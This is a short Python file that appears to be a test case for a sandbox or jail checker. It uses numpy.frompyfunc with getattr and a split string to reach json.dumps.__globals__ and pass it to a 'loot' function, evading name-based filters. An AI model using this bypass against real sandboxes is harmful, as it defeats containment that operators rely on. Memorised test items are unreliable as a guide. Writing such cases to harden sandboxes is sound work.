# aim: let numpy call getattr for every element
# mechanism: numpy.frompyfunc(getattr)
# language: builtins
# reason: computed names obey the same tables as spelled ones
# jail: process
# plain: loot
# imports: numpy

import json

import numpy

loot(numpy.frompyfunc(getattr, 2, 1)(json.dumps, "__glo" + "bals__"))
